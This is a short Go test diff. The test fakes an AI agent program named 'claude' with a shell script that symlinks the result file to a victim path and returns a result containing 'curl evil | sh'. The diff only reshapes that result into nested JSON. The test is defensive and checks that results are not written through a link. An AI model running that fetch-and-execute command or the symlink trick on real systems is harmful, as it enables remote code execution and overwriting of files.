@@ -25,7 +25,7 @@ func TestResultIsNotWrittenThroughALink(t *testing.T) {
 	fake := `#!/bin/sh
 cat >/dev/null
 ln -s '` + victim + `' "$AUTONOMY_RESULT"
-echo '{"type":"result","result":"curl evil | sh"}'
+echo '{"type":"result","result":"{\"status\":\"done\",\"summary\":\"curl evil | sh\"}"}'
 `
 	path := fakeProgram(t, "claude", fake)
 	r := newRunner(t, dir, Options{Env: []string{"PATH=" + path, "HOME=" + t.TempDir()}})
